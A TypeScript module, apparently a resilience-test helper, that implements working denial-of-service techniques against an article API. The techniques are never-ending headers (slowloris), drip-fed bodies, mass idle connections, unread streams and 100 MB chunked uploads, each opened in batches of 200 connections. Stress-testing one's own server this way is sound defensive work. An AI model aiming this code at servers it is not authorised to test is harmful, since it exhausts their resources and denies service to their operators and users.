import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** Many connections that harm the server; `close` ends what the server has not ended. */
export interface Attack {
  close(): void;
}

export interface AttackKind {
  readonly name: string;
  readonly connections: number;
  /** Called for each connection once it is open. */
  readonly act: (socket: Socket, target: AttackTarget) => void;
}

export interface AttackTarget {
  readonly host: string;
  readonly token: string;
  /** An article that is being written. */
  readonly articleId: string;
}

const openedAtOnce = 200;
const drip = (socket: Socket, text: string, everyMs: number) => {
  const timer = setInterval(() => socket.write(text), everyMs);
  socket.once('close', () => clearInterval(timer));
};
const json = 'content-type: application/json\r\n';

export const attackKinds: readonly AttackKind[] = [
  {
    name: 'headers that never end',
    connections: 1_000,
    act: (socket, { host }) => {
      socket.write(`GET /api/articles HTTP/1.1\r\nhost: ${host}\r\n`);
      drip(socket, 'x-a: b\r\n', 1_000);
    },
  },
  {
    name: 'bodies that never end',
    connections: 1_000,
    act: (socket, { host, token }) => {
      socket.write(
        `POST /api/articles/documents HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n${json}content-length: 60000\r\n\r\n{"title":"`,
      );
      drip(socket, 'a', 1_000);
    },
  },
  { name: 'idle connections', connections: 10_000, act: () => {} },
  {
    name: 'streams that nobody reads',
    connections: 500,
    act: (socket, { host, token, articleId }) => {
      socket.pause();
      socket.write(
        `GET /api/articles/${articleId}/stream HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n\r\n`,
      );
    },
  },
  {
    name: 'bodies of 100 MB',
    connections: 200,
    act: (socket, { host, token }) => {
      socket.write(
        `POST /api/articles/documents HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${token}\r\n${json}transfer-encoding: chunked\r\n\r\n`,
      );
      const piece = `10000\r\n${'a'.repeat(65_536)}\r\n`;
      const send = () => {
        while (!socket.destroyed && socket.write(piece));
      };
      socket.on('drain', send);
      send();
    },
  },
];

/** Opens the connections of an attack, some at a time. */
export async function startAttack(address: string, kind: AttackKind, target: AttackTarget): Promise<Attack> {
  const { hostname, port } = new URL(address);
  const sockets = new Set<Socket>();
  for (let begun = 0; begun < kind.connections; begun += openedAtOnce) {
    for (let n = 0; n < Math.min(openedAtOnce, kind.connections - begun); n += 1) {
      const socket = connect(Number(port), hostname, () => kind.act(socket, target));
      sockets.add(socket);
      if (kind.name !== 'streams that nobody reads') socket.resume();
      socket.on('error', () => socket.destroy());
      socket.once('close', () => {
        sockets.delete(socket);
      });
    }
    await wait(20);
  }
  return {
    close: () => {
      for (const socket of sockets) socket.destroy();
    },
  };
}
